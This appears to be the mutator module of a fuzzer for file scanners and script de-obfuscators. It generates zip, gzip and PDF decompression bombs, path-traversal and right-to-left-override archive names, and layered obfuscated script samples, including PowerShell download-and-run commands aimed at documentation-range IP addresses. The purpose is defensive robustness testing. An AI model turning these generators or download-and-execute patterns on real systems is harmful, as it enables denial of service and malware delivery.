import { crc32 } from 'node:zlib';
import { zipArchive } from '../testing/zip-writer';
import { Rng } from './prng';
import { HOSTILE_VALUES, sizeFields, writeField } from './size-fields';

/**
 * Mutations of a corpus file. Each takes the bytes and a seeded generator and returns new bytes
 * (the input is never changed) plus a short description of what it did (offsets, values, depths),
 * which is what a failure record shows next to the case's seed.
 */
export interface CorpusFile {
  name: string;
  data: Uint8Array;
}

export interface MutationContext {
  /** Another corpus file, for splicing. */
  other(): CorpusFile;
  /** Largest output kept; longer results are cut. */
  maxBytes: number;
}

export interface Mutation {
  data: Uint8Array;
  /** e.g. `size-field(pe.SizeOfImage@0x110=0xffffffff)`. */
  description: string;
  /** A new name for the file, when the mutation changes what it is (a zip wrapper, a PDF). */
  name?: string;
}

export interface Mutator {
  name: string;
  weight: number;
  apply(data: Uint8Array, rng: Rng, context: MutationContext): Mutation;
}

const hex = (n: number) => `0x${n.toString(16)}`;
const latin1 = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

const INTERESTING_BYTES = [0x00, 0xff, 0x7f, 0x80, 0x01, 0xfe, 0x20, 0x0a, 0x3c, 0x25, 0x5c];

const bitflip: Mutator = {
  name: 'bitflip',
  weight: 12,
  apply(data, rng) {
    const out = new Uint8Array(data);
    if (!out.length) return { data: out, description: 'bitflip(empty)' };
    const n = rng.chance(0.7) ? rng.range(1, 4) : rng.range(5, 64);
    const at: string[] = [];
    for (let i = 0; i < n; i++) {
      const o = rng.position(out.length);
      out[o] ^= 1 << rng.int(8);
      if (at.length < 8) at.push(hex(o));
    }
    return { data: out, description: `bitflip(n=${n} @${at.join(',')}${n > 8 ? ',…' : ''})` };
  },
};

const byteset: Mutator = {
  name: 'byteset',
  weight: 10,
  apply(data, rng) {
    const out = new Uint8Array(data);
    if (!out.length) return { data: out, description: 'byteset(empty)' };
    const n = rng.range(1, 16);
    const at: string[] = [];
    for (let i = 0; i < n; i++) {
      const o = rng.position(out.length);
      const v = rng.chance(0.7) ? rng.pick(INTERESTING_BYTES) : rng.int(256);
      const run = rng.chance(0.2) ? Math.min(rng.range(2, 256), out.length - o) : 1;
      out.fill(v, o, o + run);
      if (at.length < 8) at.push(`${hex(o)}${run > 1 ? `+${run}` : ''}=${hex(v)}`);
    }
    return { data: out, description: `byteset(${at.join(',')}${n > 8 ? ',…' : ''})` };
  },
};

const truncate: Mutator = {
  name: 'truncate',
  weight: 12,
  apply(data, rng) {
    // Half the cuts inside the first KiB (headers), the rest anywhere; sometimes a few bytes off the end (trailers, central directories).
    const at = rng.chance(0.2) ? Math.max(0, data.length - rng.range(1, 64)) : rng.position(data.length);
    return { data: data.slice(0, at), description: `truncate(at=${hex(at)} of ${hex(data.length)})` };
  },
};

/** Decimal fields of text formats: PDF lengths and xref offsets, RTF \binN, MIME lengths. */
const TEXT_NUMBER = /(\/Length\s+|\/Size\s+|\/N\s+|\/First\s+|\/Count\s+|\/W\s*\[\s*|startxref\s+|\\bin|\\objw|\\objh|Content-Length:\s*|size=")(\d+)/g;
const HOSTILE_DECIMALS = ['4294967295', '2147483647', '0', '-1', '99999999999999999999', '18446744073709551615', '4294967296'];

const sizeField: Mutator = {
  name: 'size-field',
  weight: 20,
  apply(data, rng) {
    const out = new Uint8Array(data);
    const fields = sizeFields(out);
    const text = Buffer.from(out.buffer, out.byteOffset, Math.min(out.length, 4 * 1024 * 1024)).toString('latin1');
    const numbers = [...text.matchAll(TEXT_NUMBER)].slice(0, 2000);
    if (numbers.length && (!fields.length || rng.chance(0.5))) {
      const n = Math.min(numbers.length, rng.range(1, 3));
      const edits: { index: number; length: number; value: string; label: string }[] = [];
      for (let i = 0; i < n; i++) {
        const m = rng.pick(numbers);
        const index = (m.index ?? 0) + m[1].length;
        if (!edits.some((e) => e.index === index)) edits.push({ index, length: m[2].length, value: rng.pick(HOSTILE_DECIMALS), label: m[1].trim() });
      }
      edits.sort((a, b) => b.index - a.index);
      let bytes = out;
      for (const e of edits) bytes = concat(bytes.subarray(0, e.index), latin1(e.value), bytes.subarray(e.index + e.length));
      return { data: bytes, description: `size-field(${edits.map((e) => `${e.label}@${hex(e.index)}=${e.value}`).join(',')})` };
    }
    if (!fields.length) {
      const flipped = bitflip.apply(data, rng, { other: () => ({ name: '', data }), maxBytes: data.length });
      return { data: flipped.data, description: `size-field(no size field found; ${flipped.description})` };
    }
    // Format fields first: the generic ones are many and mostly not sizes.
    const specific = fields.filter((f) => !f.label.startsWith('generic.'));
    const n = rng.range(1, 3);
    const done: string[] = [];
    for (let i = 0; i < n; i++) {
      const field = specific.length && rng.chance(0.8) ? rng.pick(specific) : rng.pick(fields);
      const value = rng.chance(0.15) ? BigInt(out.length + rng.range(-8, 8)) & ((1n << BigInt(field.width * 8)) - 1n) : rng.pick(HOSTILE_VALUES[field.width]);
      writeField(out, field, value);
      done.push(`${field.label}@${hex(field.offset)}=0x${value.toString(16)}`);
    }
    return { data: out, description: `size-field(${done.join(',')})` };
  },
};

const chunk: Mutator = {
  name: 'chunk',
  weight: 10,
  apply(data, rng, { maxBytes }) {
    const op = rng.pick(['duplicate', 'insert-random', 'erase', 'repeat'] as const);
    if (!data.length || op === 'insert-random') {
      const at = rng.position(data.length);
      const len = rng.chance(0.8) ? rng.range(1, 64) : rng.range(65, 16 * 1024);
      return { data: concat(data.subarray(0, at), rng.bytes(len), data.subarray(at)), description: `chunk(insert-random ${len} bytes @${hex(at)})` };
    }
    const from = rng.position(data.length);
    const len = Math.max(1, Math.min(data.length - from, rng.chance(0.7) ? rng.range(1, 512) : rng.range(513, 64 * 1024)));
    const piece = data.subarray(from, from + len);
    if (op === 'erase') return { data: concat(data.subarray(0, from), data.subarray(from + len)), description: `chunk(erase ${len} bytes @${hex(from)})` };
    const to = rng.position(data.length);
    const times = op === 'repeat' ? Math.max(1, Math.min(rng.range(2, 4096), Math.floor((maxBytes - data.length) / len))) : 1;
    const copies = new Uint8Array(len * times);
    for (let i = 0; i < times; i++) copies.set(piece, i * len);
    return { data: concat(data.subarray(0, to), copies, data.subarray(to)), description: `chunk(${op} ${len} bytes from ${hex(from)} ×${times} @${hex(to)})` };
  },
};

const splice: Mutator = {
  name: 'splice',
  weight: 8,
  apply(data, rng, { other }) {
    const donor = other();
    if (rng.chance(0.3)) {
      // A whole file inside another (polyglots, appended payloads).
      const at = rng.chance(0.5) ? data.length : rng.position(data.length);
      return { data: concat(data.subarray(0, at), donor.data, data.subarray(at)), description: `splice(insert ${donor.name} @${hex(at)})` };
    }
    const cut = rng.position(data.length);
    const from = rng.int(donor.data.length);
    return { data: concat(data.subarray(0, cut), donor.data.subarray(from)), description: `splice(head ${hex(cut)} + ${donor.name} from ${hex(from)})` };
  },
};

const nestZip: Mutator = {
  name: 'nest-zip',
  weight: 8,
  apply(data, rng, { maxBytes }) {
    const levels = rng.chance(0.7) ? rng.range(2, 10) : rng.range(11, 40);
    const deflate = rng.chance(0.5);
    let bytes = data;
    let name = 'inner.bin';
    for (let i = 0; i < levels && bytes.length <= maxBytes; i++) {
      bytes = zipArchive([{ name, data: bytes, method: deflate ? 'deflate' : 'store' }]);
      name = `level${levels - i}.zip`;
    }
    return { data: bytes, description: `nest-zip(levels=${levels}, ${deflate ? 'deflate' : 'store'})`, name: 'nested.zip' };
  },
};

/** A PDF with a valid header, xref table and trailer around `objects` (object 1 is the catalog). */
export function pdfDocument(objects: (string | Uint8Array)[]): Uint8Array {
  const parts: Uint8Array[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let size = parts[0].length;
  objects.forEach((body, i) => {
    offsets.push(size);
    const chunk = concat(latin1(`${i + 1} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n'));
    parts.push(chunk);
    size += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(latin1(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`));
  return concat(...parts);
}

/** A PDF stream object holding `data` (no filter). */
export const pdfStream = (dictionary: string, data: Uint8Array): Uint8Array =>
  concat(latin1(`<< ${dictionary} /Length ${data.length} >>\nstream\n`), data, latin1('\nendstream'));

/** A PDF whose page carries arrays or dictionaries nested `depth` deep, optionally with a file embedded. */
export function nestedPdf(depth: number, style: 'array' | 'dict' | 'mixed', balanced: boolean, embedded: Uint8Array | null): Uint8Array {
  const open = style === 'array' ? '[' : style === 'dict' ? '<< /K ' : '[<< /K ';
  const close = style === 'array' ? ']' : style === 'dict' ? ' >>' : ' >>]';
  const nested = open.repeat(depth) + '0' + (balanced ? close.repeat(depth) : '');
  return pdfDocument([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.bin) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots ${nested} >>`,
    pdfStream('/Type /EmbeddedFile', embedded ?? new Uint8Array(0)),
    '<< /Type /Filespec /F (payload.bin) /EF << /F 4 0 R >> >>',
  ]);
}

const DEPTHS = [64, 512, 4096, 50_000, 250_000];

const nestPdf: Mutator = {
  name: 'nest-pdf',
  weight: 5,
  apply(data, rng, { maxBytes }) {
    const depth = rng.pick(DEPTHS);
    const style = rng.pick(['array', 'dict', 'mixed'] as const);
    const balanced = rng.chance(0.7);
    const embed = data.length <= maxBytes / 2 && rng.chance(0.6);
    return { data: nestedPdf(depth, style, balanced, embed ? data : null), description: `nest-pdf(depth=${depth}, ${style}, ${balanced ? 'balanced' : 'unclosed'}${embed ? ', file embedded' : ''})`, name: 'nested.pdf' };
  },
};

const BRACKET_STYLES = {
  'json-array': { open: '[', close: ']', name: 'nested.json', prefix: '', suffix: '' },
  'json-object': { open: '{"a":', close: '}', name: 'nested.json', prefix: '', suffix: '' },
  'js-array': { open: '[', close: ']', name: 'nested.js', prefix: 'var payload = ', suffix: ';\neval(String(payload));\n' },
  'js-call': { open: 'f(', close: ')', name: 'nested.js', prefix: 'function f(x){return x}\nvar r = ', suffix: ';\n' },
  'ps-subexpr': { open: '$(', close: ')', name: 'nested.ps1', prefix: 'IEX ', suffix: '\n' },
  'html-div': { open: '<div>', close: '</div>', name: 'nested.html', prefix: '<html><body>', suffix: '<script>document.write(1)</script></body></html>' },
  'vbs-paren': { open: '(', close: ')', name: 'nested.vbs', prefix: 'x = ', suffix: '\nCreateObject("WScript.Shell").Run x\n' },
} as const;

const brackets: Mutator = {
  name: 'brackets',
  weight: 5,
  apply(data, rng) {
    const styleName = rng.pick(Object.keys(BRACKET_STYLES) as (keyof typeof BRACKET_STYLES)[]);
    const style = BRACKET_STYLES[styleName];
    const depth = rng.pick(DEPTHS);
    const balanced = rng.chance(0.7);
    const nested = latin1(style.prefix + style.open.repeat(depth) + '1' + (balanced ? style.close.repeat(depth) : '') + style.suffix);
    if (rng.chance(0.5)) {
      return { data: nested, description: `brackets(${styleName}, depth=${depth}, ${balanced ? 'balanced' : 'unclosed'})`, name: style.name };
    }
    const at = rng.position(data.length);
    return { data: concat(data.subarray(0, at), nested, data.subarray(at)), description: `brackets(${styleName}, depth=${depth}, ${balanced ? 'balanced' : 'unclosed'}, inserted @${hex(at)})` };
  },
};

/**
 * A raw deflate stream of `size` zero bytes, written directly (one fixed-Huffman block: a literal 0,
 * then matches of length 258 at distance 1, 13 bits each), so that a 256 MiB bomb costs 1.6 MiB
 * here and never 256 MiB. Made once per size.
 */
const zeroStreams = new Map<number, Uint8Array>();
export function zeroDeflate(size: number): Uint8Array {
  const cached = zeroStreams.get(size);
  if (cached) return cached;
  const out = new Uint8Array(Math.ceil((3 + 8 + Math.ceil(size / 258) * 13 + 8 * 258 + 7) / 8) + 1);
  let at = 0;
  let acc = 0;
  let bits = 0;
  const put = (value: number, count: number) => {
    for (let i = 0; i < count; i++) {
      acc |= ((value >>> i) & 1) << bits;
      if (++bits === 8) {
        out[at++] = acc;
        acc = 0;
        bits = 0;
      }
    }
  };
  // Huffman codes go most significant bit first.
  const code = (value: number, length: number) => {
    for (let i = length - 1; i >= 0; i--) put((value >>> i) & 1, 1);
  };
  put(1, 1); // BFINAL
  put(1, 2); // BTYPE 01: fixed Huffman codes
  let left = size;
  if (left > 0) {
    code(0x30, 8); // literal 0
    left--;
  }
  for (; left >= 258; left -= 258) {
    code(0xc5, 8); // length code 285: 258 bytes
    code(0, 5); // distance code 0: distance 1
  }
  for (; left > 0; left--) code(0x30, 8);
  code(0, 7); // end of block (256)
  if (bits) out[at++] = acc;
  const stream = out.slice(0, at);
  zeroStreams.set(size, stream);
  return stream;
}

/** A gzip file expanding to `size` zero bytes (its CRC computed over zeros a MiB at a time). */
const gzipStreams = new Map<number, Uint8Array>();
function zeroGzip(size: number): Uint8Array {
  const cached = gzipStreams.get(size);
  if (cached) return cached;
  const block = Buffer.alloc(1024 * 1024);
  let crc = 0;
  for (let left = size; left > 0; left -= block.length) crc = crc32(block.subarray(0, Math.min(left, block.length)), crc);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE(size >>> 0, 4);
  const gzip = concat(new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 3]), zeroDeflate(size), trailer);
  gzipStreams.set(size, gzip);
  return gzip;
}

const BOMB_SIZES = [16 * 1024 * 1024, 256 * 1024 * 1024, 1024 * 1024 * 1024];

/**
 * Containers built to exhaust whoever opens them, around the file: a member of zeros with a huge
 * compression ratio, a gzip bomb, a zip whose thousands of directory entries all point at the
 * same data (a non-recursive bomb), a zip of thousands of members, members with hostile names.
 */
const container: Mutator = {
  name: 'container',
  weight: 3,
  apply(data, rng) {
    const variant = rng.pick(['ratio-zip', 'gzip-bomb', 'overlapping-zip', 'many-members', 'hostile-names'] as const);
    if (variant === 'ratio-zip') {
      const size = rng.pick(BOMB_SIZES);
      const zipped = zipArchive([
        { name: 'readme.txt', data: data.subarray(0, 4096), method: 'deflate' },
        { name: 'zeros.bin', compressed: zeroDeflate(size), declaredSize: rng.chance(0.5) ? size : rng.pick([0, 1024, 0xffffffff]), crc: 0 },
        { name: 'payload.bin', data, method: 'deflate' },
      ]);
      return { data: zipped, description: `container(ratio-zip: ${size >> 20} MiB of zeros)`, name: 'bomb.zip' };
    }
    if (variant === 'gzip-bomb') {
      const size = rng.pick(BOMB_SIZES);
      return { data: zeroGzip(size).slice(), description: `container(gzip-bomb: ${size >> 20} MiB of zeros)`, name: 'zeros.gz' };
    }
    if (variant === 'overlapping-zip') {
      const count = rng.pick([100, 1000]);
      return { data: overlappingZip(data, count), description: `container(overlapping-zip: ${count} entries on one member)`, name: 'overlap.zip' };
    }
    if (variant === 'many-members') {
      const count = rng.pick([600, 2000]);
      const entries = Array.from({ length: count }, (_, i) => ({ name: `f${i}.txt`, data: i === 0 ? data : new Uint8Array([i & 0xff]) }));
      return { data: zipArchive(entries), description: `container(many-members: ${count})`, name: 'many.zip' };
    }
    const names: (string | Uint8Array)[] = [
      '../../../../etc/cron.d/job',
      '..\\..\\Windows\\System32\\evil.dll',
      'C:/Users/Public/run.exe',
      new Uint8Array([0x61, 0x00, 0x62, 0x2e, 0x65, 0x78, 0x65]),
      'invoice\u202Efdp.exe',
      'x'.repeat(60_000),
      '',
      '/',
      'dir/',
      'con.txt',
    ];
    const picked = Array.from({ length: rng.range(1, 4) }, () => rng.pick(names));
    return { data: zipArchive(picked.map((name) => ({ name, data, method: 'deflate' as const }))), description: `container(hostile-names: ${picked.length})`, name: 'names.zip' };
  },
};

/** A zip whose `count` central-directory entries all point at one local header (David Fifield's overlap). */
function overlappingZip(data: Uint8Array, count: number): Uint8Array {
  const one = Buffer.from(zipArchive([{ name: 'a.bin', data, method: 'deflate' }]));
  const eocd = one.length - 22;
  const cdSize = one.readUInt32LE(eocd + 12);
  const cdOffset = one.readUInt32LE(eocd + 16);
  const local = one.subarray(0, cdOffset);
  const central = one.subarray(cdOffset, cdOffset + cdSize);
  const centrals = Array.from({ length: count }, () => central);
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(count, 0xffff), 8);
  end.writeUInt16LE(Math.min(count, 0xffff), 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return new Uint8Array(Buffer.concat([local, directory, end]));
}

/** A zlib (RFC 1950) stream of `size` zeros, for PDF FlateDecode: header, the deflate stream, Adler-32 of zeros. */
function zeroZlib(size: number): Uint8Array {
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((size % 65521) << 16) | 1) >>> 0);
  return concat(new Uint8Array([0x78, 0xda]), zeroDeflate(size), adler);
}

const b64utf16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
const jsString = (s: string) => JSON.stringify(s);

/**
 * Scripts written to exhaust a de-obfuscator or an emulator: endless loops, runaway memory, deep
 * recursion, eval / unescape / -EncodedCommand / Execute nested many layers deep, action storms,
 * huge strings handed to emulated APIs.
 */
const SCRIPTS: Record<string, (depth: number) => { text: string; name: string }> = {
  'js-endless-loop': () => ({ text: 'var sh = new ActiveXObject("WScript.Shell");\nwhile (true) { }\n', name: 'loop.js' }),
  'js-memory': () => ({ text: 'var s = "AAAAAAAAAAAAAAAA"; var a = [];\nwhile (true) { s = s + s; a.push(s); }\n', name: 'memory.js' }),
  'js-recursion': () => ({ text: 'function f(n) { return f(n + 1) + 1; }\nf(0);\n', name: 'recursion.js' }),
  'js-eval-layers': (depth) => {
    let code = 'new ActiveXObject("WScript.Shell").Run("calc.exe")';
    // Escaping doubles the backslashes at every layer: stop before a MiB.
    for (let i = 0; i < depth && code.length < 1_000_000; i++) code = `eval(${jsString(code)})`;
    return { text: `${code};\n`, name: 'eval-layers.js' };
  },
  'js-unescape-layers': (depth) => {
    let code = 'WScript.Echo("http://198.51.100.30/x")';
    for (let i = 0; i < depth && code.length < 1_000_000; i++) code = `eval(unescape("${escape(code)}"))`;
    return { text: `${code};\n`, name: 'unescape-layers.js' };
  },
  'js-action-storm': () => ({ text: 'var sh = new ActiveXObject("WScript.Shell");\nfor (var i = 0; i < 10000000; i++) { sh.RegWrite("HKCU\\\\Software\\\\k" + i, "http://198.51.100.31/" + i); }\n', name: 'storm.js' }),
  'js-huge-string': () => ({ text: 'var x = new ActiveXObject("MSXML2.XMLHTTP");\nvar u = "http://198.51.100.32/" + new Array(4000000).join("a") + ".exe";\nx.open("GET", u, false); x.send();\n', name: 'huge.js' }),
  'js-promise-storm': () => ({ text: 'function go() { return Promise.resolve().then(go); }\ngo();\nsetTimeout(function t() { setTimeout(t, 0); }, 0);\n', name: 'promises.js' }),
  'ps-encoded-layers': (depth) => {
    let cmd = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.33/a')";
    for (let i = 0; i < Math.min(depth, 12) && cmd.length < 1_000_000; i++) cmd = `powershell -NoP -W Hidden -EncodedCommand ${b64utf16(cmd)}`;
    return { text: `${cmd}\r\n`, name: 'encoded-layers.ps1' };
  },
  'ps-replace-chain': (depth) => ({ text: `$c = 'I' + 'EX'${".Replace('X','X')".repeat(depth)}\r\n& $c 'http://198.51.100.34/b'\r\n`, name: 'chain.ps1' }),
  'vbs-execute-layers': (depth) => {
    let code = 'CreateObject("WScript.Shell").Run "calc"';
    for (let i = 0; i < Math.min(depth, 40) && code.length < 1_000_000; i++) code = `Execute ${[...code].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')}`;
    return { text: `${code}\r\n`, name: 'execute-layers.vbs' };
  },
  'html-write-layers': (depth) => {
    let html = '<iframe src="http://198.51.100.35/x"></iframe>';
    for (let i = 0; i < depth && html.length < 1_000_000; i++) html = `<script>document.write(unescape("${escape(html)}"))</script>`;
    return { text: `<html><body>${html}</body></html>\n`, name: 'write-layers.html' };
  },
  'batch-expansion': (depth) => ({ text: `@echo off\r\nset a=powershell\r\n${Array.from({ length: depth }, (_, i) => `set v${i}=%a:~${i % 10},1%`).join('\r\n')}\r\n%a% -c "iwr http://198.51.100.36/c"\r\n`, name: 'expansion.bat' }),
};

const scriptHostile: Mutator = {
  name: 'script',
  weight: 5,
  apply(data, rng) {
    const kind = rng.pick(Object.keys(SCRIPTS));
    const depth = rng.pick([3, 10, 50, 200, 1000]);
    const { text, name } = SCRIPTS[kind](depth);
    const bytes = latin1(text);
    if (rng.chance(0.3)) {
      // The hostile script inside the file (a page, a document's text, an archive's bytes).
      const at = rng.position(data.length);
      return { data: concat(data.subarray(0, at), bytes, data.subarray(at)), description: `script(${kind}, depth=${depth}, inserted @${hex(at)})` };
    }
    return { data: bytes, description: `script(${kind}, depth=${depth})`, name };
  },
};

/**
 * PDFs hostile to a parser: a FlateDecode bomb, a filter chain applied many times, an xref chain
 * that loops (/Prev to itself), reference cycles, an object stream declaring 2^31 objects, a
 * JavaScript action carrying the (hostile) file as its code.
 */
const pdfHostile: Mutator = {
  name: 'pdf',
  weight: 4,
  apply(data, rng) {
    const variant = rng.pick(['flate-bomb', 'filter-chain', 'xref-loop', 'ref-cycle', 'objstm-count', 'js-action'] as const);
    const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>';
    const catalog = '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>';
    const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
    const js = pdfStream('', data.length <= 1024 * 1024 ? data : data.subarray(0, 1024 * 1024));
    const action = '<< /Type /Action /S /JavaScript /JS 6 0 R >>';
    let objects: (string | Uint8Array)[];
    let detail = '';
    if (variant === 'flate-bomb') {
      const size = rng.pick(BOMB_SIZES);
      detail = `${size >> 20} MiB`;
      objects = [catalog, pages, page, concat(latin1(`<< /Filter /FlateDecode /Length ${zeroZlib(size).length} >>\nstream\n`), zeroZlib(size), latin1('\nendstream')), action, js];
    } else if (variant === 'filter-chain') {
      const n = rng.pick([2, 16, 200]);
      detail = `${n} filters`;
      objects = [catalog, pages, page, concat(latin1(`<< /Filter [${'/FlateDecode '.repeat(n)}] /DecodeParms [${'<< /Predictor 12 /Columns 100000000 >> '.repeat(n)}] /Length 16 >>\nstream\n`), zeroZlib(16), latin1('\nendstream')), action, js];
    } else if (variant === 'objstm-count') {
      objects = [catalog, pages, page, pdfStream('/Type /ObjStm /N 2147483647 /First 4294967295', latin1('1 0 2 5 3 10 ')), action, js];
    } else if (variant === 'ref-cycle') {
      const n = rng.pick([2, 100, 5000]);
      detail = `${n} objects`;
      objects = [catalog, '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2147483647 /Parent 2 0 R >>', '<< /Type /Page /Parent 3 0 R /Kids [3 0 R] /Resources 3 0 R >>', pdfStream('', latin1('BT ET')), action, js];
      for (let i = 0; i < n; i++) objects.push(`<< /Next ${objects.length + 2} 0 R /Prev ${objects.length} 0 R /Kids [7 0 R] >>`);
    } else {
      objects = [catalog, pages, page, pdfStream('', latin1('BT ET')), action, js];
    }
    let pdf = pdfDocument(objects);
    if (variant === 'xref-loop') {
      // A second xref section whose /Prev points at itself, appended as an incremental update.
      const at = pdf.length;
      pdf = concat(pdf, latin1(`xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 7 /Root 1 0 R /Prev ${at} /XRefStm ${at} >>\nstartxref\n${at}\n%%EOF\n`));
      detail = `/Prev ${at} → itself`;
    }
    return { data: pdf, description: `pdf(${variant}${detail ? `, ${detail}` : ''})`, name: 'hostile.pdf' };
  },
};

const none: Mutator = {
  name: 'none',
  weight: 2,
  apply(data) {
    return { data: new Uint8Array(data), description: 'none' };
  },
};

export const MUTATORS: readonly Mutator[] = [bitflip, byteset, truncate, sizeField, chunk, splice, nestZip, nestPdf, brackets, container, scriptHostile, pdfHostile, none];

/** Names hostile to whatever shows or stores them: very long, control characters, bidi overrides, traversal. */
const HOSTILE_NAMES = [
  (n: string) => `${'A'.repeat(5000)}${n}`,
  (n: string) => `..\\..\\Windows\\System32\\${n}`,
  (n: string) => `invoice\u202Efdp.${n.split('.').pop() ?? 'exe'}`,
  (n: string) => `a\u0000b\r\n\u0007${n}`,
  (n: string) => `${n}.pdf${' '.repeat(200)}.exe`,
  () => '',
  (n: string) => `\ud800${n}`,
];

export interface FuzzCase {
  seed: number;
  /** The corpus file mutated (for splices, the first one). */
  item: string;
  name: string;
  data: Uint8Array;
  /** The mutations applied, in order, ` | ` separated. */
  mutation: string;
}

export interface BuildCaseOptions {
  maxBytes?: number;
  /** Use this corpus file instead of the seed's (reproducing a case on a corpus that differs). */
  item?: string;
}

/**
 * The case a seed stands for on a corpus: the seed picks the corpus file, one to three mutations
 * and their parameters, and sometimes a hostile name. The same seed and corpus give the same bytes.
 */
export function buildCase(corpus: readonly CorpusFile[], seed: number, options: BuildCaseOptions = {}): FuzzCase {
  if (!corpus.length) throw new Error('the fuzz corpus is empty');
  const rng = new Rng(seed);
  const maxBytes = options.maxBytes ?? 8 * 1024 * 1024;
  const picked = rng.int(corpus.length);
  const base = (options.item && corpus.find((c) => c.name === options.item)) || corpus[picked];
  const context: MutationContext = { other: () => corpus[rng.int(corpus.length)], maxBytes };
  let data = base.data;
  let name = base.name;
  const steps: string[] = [];
  const count = rng.chance(0.25) ? (rng.chance(0.2) ? 3 : 2) : 1;
  for (let i = 0; i < count; i++) {
    const mutator = rng.weighted(MUTATORS);
    const result = mutator.apply(data, rng, context);
    data = result.data.length > maxBytes ? result.data.slice(0, maxBytes) : result.data;
    if (result.name) name = result.name;
    steps.push(result.description);
  }
  // Never the corpus file's own buffer (an engine thread takes the bytes it is given).
  if (data.buffer === base.data.buffer) data = data.slice();
  if (rng.chance(0.04)) {
    name = rng.pick(HOSTILE_NAMES)(name);
    steps.push('hostile-name');
  }
  return { seed, item: base.name, name, data, mutation: steps.join(' | ') };
}
